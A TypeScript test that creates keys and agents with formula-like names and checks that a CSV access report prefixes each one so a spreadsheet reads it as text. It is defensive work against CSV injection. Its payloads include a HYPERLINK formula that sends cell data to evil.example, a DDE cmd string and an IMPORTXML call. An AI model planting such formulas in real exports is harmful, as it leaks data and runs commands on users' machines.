import { parse } from 'csv-parse/sync';
import { startHarness, type Harness } from '../helpers/harness';
import { CREATE_AGENT, createKey, ok } from '../helpers/gql-fixtures';

// README, Reports: a MANAGE key names a key or an agent like a formula; the master opens the CSV
// report in a spreadsheet. Every such cell reads as text (OWASP's CSV-injection guidance).

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(() => h.close());

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1:A9)', '\t=1+1', ' =2+2'];

test('names that look like formulas come out of the access report behind a leading quote', async () => {
  const acct = await h.newAccount('csvinj');
  const manager = await createKey(h, acct.secret, { name: 'manager', type: 'DEVELOPMENT', permission: 'MANAGE' });
  for (const [i, name] of PAYLOADS.entries()) {
    ok(await h.gql(`mutation($p: ID!, $n: String!) { deriveKey(parentId: $p, input: { name: $n, type: DEVELOPMENT }) { key { id } } }`, { p: manager.key.id, n: `${name}${i}` }, manager.secret));
  }
  ok(await h.gql(CREATE_AGENT, { input: { name: '=IMPORTXML("http://evil.example","//a")' } }, acct.secret));
  const csv: string = ok(await h.gql('{ accessReport(format: CSV) { content } }', {}, acct.secret)).accessReport.content;
  const cells = parse(csv, { record_delimiter: '\r\n' }).flat() as string[];
  for (const [i, name] of PAYLOADS.entries()) {
    const trimmed = `${name}${i}`.replace(/^[\t ]+/, '');
    expect(cells.some((c) => c.includes(trimmed))).toBe(true);
  }
  // No cell a spreadsheet would evaluate: none starts with a formula character.
  expect(cells.filter((c) => /^[ \t\r\n]*[=+\-@]/.test(c))).toEqual([]);
});
